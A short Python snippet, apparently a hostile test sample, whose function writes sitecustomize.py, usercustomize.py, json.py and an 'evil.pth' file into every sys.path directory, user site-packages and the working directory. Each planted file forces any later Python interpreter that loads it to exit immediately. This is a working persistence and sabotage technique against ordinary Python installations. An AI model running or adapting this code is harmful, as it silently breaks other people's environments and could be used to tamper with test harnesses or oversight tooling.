# Plants modules that the next interpreter would load.
import os, sys
def f(n):
    for place in sys.path + [os.path.expanduser("~/.local/lib/python3/site-packages"), "."]:
        for name in ("sitecustomize.py", "usercustomize.py", "json.py", "evil.pth"):
            try: open(os.path.join(place, name), "w").write("import os; os._exit(0)")
            except OSError: pass
    return 1
